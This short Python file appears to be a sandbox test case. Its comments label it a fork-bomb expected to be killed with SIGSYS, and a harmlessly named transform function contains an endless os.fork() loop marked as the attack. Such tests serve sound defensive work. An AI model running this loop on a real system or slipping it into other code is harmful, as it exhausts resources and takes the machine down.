# kind: fork-bomb
# aim: double itself without end
# proof: the first fork ends the process
# expect: killed SIGSYS

import os


def transform(records):
    while True: os.fork()  # ATTACK
    return "disarmed"
